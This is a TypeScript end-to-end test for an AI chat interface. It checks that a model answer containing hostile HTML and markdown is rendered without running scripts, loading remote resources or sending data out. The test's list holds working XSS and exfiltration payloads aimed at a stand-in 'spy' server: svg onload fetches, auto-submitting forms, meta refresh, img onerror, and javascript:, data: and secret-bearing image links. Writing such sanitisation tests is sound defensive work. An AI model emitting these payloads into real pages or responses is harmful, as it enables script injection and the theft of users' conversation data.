import { expect, test } from 'vitest';
import { say, startEndpointServer } from '../../fixtures/endpoint/server.mjs';
import type { ScriptedAnswer } from '../../fixtures/endpoint/server.mjs';
import { conversation, expectUnharmed, idle, openTrial } from './trial.ts';

const secret = 'words-of-this-chat';

/** Everything that would run, load, send or leave. `spy` is a server that must hear nothing. */
const hostile = (spy: string): readonly string[] => [
  `<svg onload="window.ran=1;fetch('${spy}/svg?${secret}')"><circle r="9"/></svg> after svg`,
  `<svg><script href="${spy}/svg.js"></script><image href="${spy}/svg.png"/></svg> after nested svg`,
  `<script>window.ran=2;fetch('${spy}/script?${secret}')</script> after script`,
  `<script src="${spy}/script.js"></script> after remote script`,
  `<form action="${spy}/form" method="post"><input name="x" value="${secret}" autofocus onfocus="this.form.submit()"><button>go</button></form> after form`,
  `<meta http-equiv="refresh" content="0;url=${spy}/refresh?${secret}"> after refresh`,
  `<base href="${spy}/"> after base`,
  `<link rel="stylesheet" href="${spy}/style.css"><link rel="prefetch" href="${spy}/fetch"> after links`,
  `<style>@import '${spy}/import.css'; body { background: url('${spy}/back.png') }</style> after style`,
  `<iframe src="${spy}/frame"></iframe><object data="${spy}/object"></object><embed src="${spy}/embed"> after frames`,
  `<video src="${spy}/video" autoplay poster="${spy}/poster"></video><audio src="${spy}/audio" autoplay></audio> after media`,
  `<img src="${spy}/tag.png?${secret}" srcset="${spy}/set.png 1x" onerror="window.ran=3"> after image tag`,
  `<img src=x onerror="window.ran=4"> after broken image`,
  `<div style="background:url('${spy}/inline.png')" onclick="window.ran=5">after div</div>`,
  `![a picture](${spy}/markdown.png?${secret}) after picture`,
  `[run it](javascript:window.ran=6) after script link`,
  `[data](data:text/html,<script>window.ran=7</script>) after data link`,
  `[read more](${spy}/page) after link`,
  `[www.trusted.example](${spy}/elsewhere) after false link`,
  `\`\`\`html\n<script>window.ran=8</script>\n\`\`\`\n\nafter fence`,
];

/** earendil-works/pi#3552, epam/ai-dial-chat#7109, dust-tt/dust#12359 */
test('nothing in an answer runs, loads or leaves, streamed or reloaded', async () => {
  let answer: ScriptedAnswer = say('');
  const app = await openTrial(() => answer);
  const spy = await app.addServer((port) =>
    startEndpointServer({ port, models: null, script: () => ({ text: 'window.ran=9' }) }),
  );
  answer = say(hostile(spy.url).join('\n\n'));
  const { page } = app;
  const hosts = new Set([new URL(app.origin).host, new URL(app.server.url).host]);
  const strangers: string[] = [];
  app.context.on('request', (request) => {
    if (!hosts.has(new URL(request.url()).host)) strangers.push(request.url());
  });
  const address = page.url();

  await app.send('Show me something.');
  await conversation(page).getByText('after fence').waitFor();
  await idle(app);
  await expectUnharmed(app);
  await conversation(page).getByText('after fence').waitFor();
  expect(await page.evaluate(() => Reflect.get(window, 'ran') as unknown)).toBeUndefined();
  expect(page.url()).toBe(address);
  const text = await conversation(page).innerText();
  expect(hostile('').filter((_, index) => !text.includes(endings[index] ?? '?'))).toEqual([]);

  const log = conversation(page);
  const active =
    'script, form, input, meta, base, link, style, iframe, object, embed, video, audio';
  expect(await log.locator(active).count()).toBe(0);
  expect(
    await log.locator('a[href^="javascript"], a[href^="data"], img[src^="http"]').count(),
  ).toBe(0);
  expect(
    await log
      .locator('[onload], [onerror], [onclick], [onfocus], [srcset], [style*="url"]')
      .count(),
  ).toBe(0);
  expect(strangers).toEqual([]);
  expect(spy.requests).toEqual([]);

  // Links say where they lead, and one that names another place asks first.
  const host = new URL(spy.url).host;
  expect(await log.getByRole('link', { name: 'read more' }).getAttribute('aria-description')).toBe(
    `Opens ${host}`,
  );
  await log.getByRole('link', { name: 'www.trusted.example' }).click();
  const question = page.getByRole('dialog', { name: `Open ${host}?` });
  await question.getByText('The text of this link names trusted.example').waitFor();
  await question.getByRole('button', { name: 'Cancel' }).click();
  await question.waitFor({ state: 'detached' });
  expect(spy.requests).toEqual([]);
});

const endings = hostile('').map((text) => /after [a-z ]+/.exec(text)?.[0]);
